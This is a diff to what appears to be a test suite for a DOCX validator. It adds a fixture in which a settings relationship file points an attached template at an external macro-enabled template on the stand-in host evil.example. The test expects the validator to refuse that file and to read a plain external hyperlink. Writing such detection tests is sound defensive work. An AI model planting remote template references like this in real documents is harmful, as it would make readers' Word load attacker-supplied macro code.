@@ -220,6 +220,14 @@ describe('a DOCX that is none, or too much', () => {
     expect(failure(bytes.slice(0, bytes.length / 2))).toBe('damaged-file');
     expect(failure(pack(new Map([['mimetype', utf8('x')]])))).toBe('unknown-format');
     expect(failure(archive({ 'word/vbaProject.bin': utf8('x') }))).toBe('refused-file');
+    const outside = (type: string) =>
+      archive({
+        'word/_rels/settings.xml.rels': utf8(
+          `<Relationships><Relationship Id="r1" Type="http://o.example/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
+        ),
+      });
+    expect(failure(outside('attachedTemplate'))).toBe('refused-file');
+    expect(failure(outside('hyperlink'))).toBe('read');
     expect(failure(archive({ 'word/document.xml': utf8(DOCUMENT.slice(0, -20)) }))).toBe('bad-xml');
     expect(
       failure(
